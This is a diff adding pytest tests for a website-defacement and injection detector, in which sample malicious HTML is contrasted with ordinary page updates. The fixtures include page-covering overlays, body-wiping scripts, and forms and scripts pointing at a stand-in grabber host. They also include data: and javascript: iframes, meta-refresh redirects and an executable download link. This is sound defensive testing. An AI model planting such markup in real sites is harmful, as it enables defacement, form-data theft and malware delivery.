@@ -1,0 +1,119 @@
+"""What defacers add to a page that keeps its words; and what ordinary updates add."""
+
+import pytest
+
+from xuncha.model.outcome import Status
+from xuncha_plugins.integrity.checks import injected, redirected
+from xuncha_plugins.integrity.look_checks import replaced, title
+
+ALL = [injected, redirected, replaced, title]
+WHOLE = "position:fixed;top:0;left:0;width:100%;height:100%"
+
+
+def keys(outcome):
+    return [found.key for found in outcome.findings]
+
+
+@pytest.mark.parametrize(
+    ("check", "added", "key"),
+    [
+        (replaced, f'<div style="{WHOLE}"><img src="/up/x.jpg"></div>', "covered"),
+        (replaced, f'<style>.ov{{{WHOLE}}}</style><div class="ov"></div>', "covered"),
+        (replaced, "<style>body>*{display:none}</style>", "hidden"),
+        (replaced, '<div><template shadowrootmode="open">x</template></div>', "shadowed"),
+        (replaced, "<script>document.body.innerHTML='<img src=/up/x.jpg>'</script>", "wiped"),
+        (replaced, "<h1>还我血汗钱</h1>", "heading"),
+        (replaced, '<marquee><font size="6">还我血汗钱</font></marquee>', "heading"),
+        (title, "<script>document.title='欧亿注册'</script>", "scripted"),
+        (injected, '<form><button formaction="http://grab.formgrab.net/p">x</button></form>', "form"),
+        (injected, "<button onclick=\"this.form.action='http://grab.formgrab.net/p'\">x</button>", "loader"),
+        (injected, '<script src="data:text/javascript;base64,YWxlcnQoMSk="></script>', "script"),
+        (injected, '<svg><script href="http://grab.formgrab.net/a.js"></script></svg>', "script"),
+        (injected, '<iframe src="data:text/html;base64,PGgxPng8L2gxPg=="></iframe>', "frame"),
+        (injected, "<iframe src=\"javascript:'<h1>x</h1>'\"></iframe>", "frame"),
+        (injected, '<script src="/upload/2026/a.js"></script>', "uploaded"),
+        (injected, '<iframe src="/uploads/x.html"></iframe>', "uploaded"),
+        (injected, '<a href="http://www.strangers.com/setup.exe">下载</a>', "download"),
+        (redirected, '<meta http-equiv="refresh" content="0;url=data:text/html,<h1>x</h1>">', "refresh"),
+        (redirected, '<meta http-equiv="refresh" content="0;url=javascript:f()">', "refresh"),
+    ],
+)
+def test_what_a_defacer_adds_is_asked_about(compared, made, check, added, key):
+    outcome = compared(check, made.page(9, body=added))
+    assert (set(keys(outcome)), outcome.status) == ({key}, Status.MANUAL)
+
+
+@pytest.mark.parametrize("check", ALL)
+@pytest.mark.parametrize(
+    "added",
+    [
+        f'<div class="mask" style="display:none;{WHOLE}"></div>',
+        f'<canvas style="{WHOLE};pointer-events:none"></canvas>',
+        '<div style="position:fixed;right:0;bottom:80px;width:120px;height:300px"><img src="/up/p.jpg"></div>',
+        "<style>@media print{body *{visibility:hidden}}</style>",
+        "<script>var b=document.body.innerHTML;document.body.innerHTML=p;print();document.body.innerHTML=b</script>",
+        '<h1><a href="/art/9.html">工作会议召开</a></h1>',
+        "<h1>示例县教育局</h1>",
+        '<marquee><a href="/art/9.html">关于调整办公地点的通知</a></marquee>',
+        '<iframe src="javascript:void(0)"></iframe><iframe src="data:,"></iframe>',
+        '<iframe src="/upload/2026/plan.pdf"></iframe>',
+        '<a href="/upload/2026/biao.zip">下载</a><a href="http://www.partner.com/a.zip">下载</a>',
+        '<a href="https://zwfw.sd.gov.cn/">政务服务</a><a href="http://www.partner.com/">合作单位</a>',
+        '<div style="display:none">您访问的链接即将离开本网站</div>',
+    ],
+)
+def test_what_ordinary_updates_add_is_left_alone(compared, made, check, added):
+    assert compared(check, made.page(9, body=added)).status is Status.PASS
+
+
+def test_a_menu_entry_that_leads_elsewhere_is_asked_about(compared, made):
+    now = made.page(9).replace('href="/col/4.html"', 'href="http://www.strangers.com/"')
+    outcome = compared(injected, now)
+    assert (keys(outcome), outcome.findings[0].params["words"].value) == (["led-out"], "政策文件")
+
+
+def friend(url):
+    return f'<a href="{url}">水利部</a>'
+
+
+def test_a_link_to_a_ministry_that_leads_elsewhere_is_asked_about(compared, made):
+    before = made.page(body=friend("http://www.mwr.gov.cn/"))
+    assert keys(compared(injected, made.page(9, body=friend("http://www.strangers.com/")), before)) == ["swapped"]
+
+
+@pytest.mark.parametrize(
+    ("before", "now"),
+    [("http://www.mwr.gov.cn/", "https://slb.gov.cn/"), ("http://www.paper.com/", "http://www.newpaper.cn/")],
+)
+def test_a_friend_that_moved_is_left_alone(compared, made, before, now):
+    outcome = compared(injected, made.page(9, body=friend(now)), made.page(body=friend(before)))
+    assert outcome.status is Status.PASS
+
+
+def test_a_menu_entry_that_moved_to_a_state_body_is_left_alone(compared, made):
+    now = made.page(9).replace('href="/col/4.html"', 'href="http://www.county.gov.cn/"')
+    assert compared(injected, now).status is Status.PASS
+
+
+def test_an_archive_that_was_the_sites_own_and_lies_elsewhere_is_asked_about(compared, made):
+    link = '<a href="{}/biao.zip">申报表</a>'.format
+    outcome = compared(injected, made.page(9, body=link("http://www.strangers.com")), made.page(body=link("/up")))
+    assert "download" in keys(outcome)
+
+
+def test_a_container_that_is_hidden_is_asked_about(compared, made):
+    page = made.page(9)
+    start, end = page.index('<ul id="menu">'), page.index('<div id="foot">')
+    now = f'{page[:start]}<div style="display:none">{page[start:end]}</div><img src="/up/x.jpg">{page[end:]}'
+    assert keys(compared(replaced, now)) == ["tucked"]
+
+
+def test_scripts_among_uploads_that_were_approved_are_left_alone(compared, made):
+    script = '<script src="/upload/js/{}.js"></script>'.format
+    assert compared(injected, made.page(9, body=script("b")), made.page(body=script("a"))).status is Status.PASS
+
+
+def test_a_slogan_in_another_slogans_place_is_left_alone(compared, made):
+    slogan = "<marquee>{}</marquee>".format
+    before = made.page(body=slogan("热烈庆祝教师节"))
+    assert compared(replaced, made.page(9, body=slogan("欢迎新同学到来")), before).status is Status.PASS
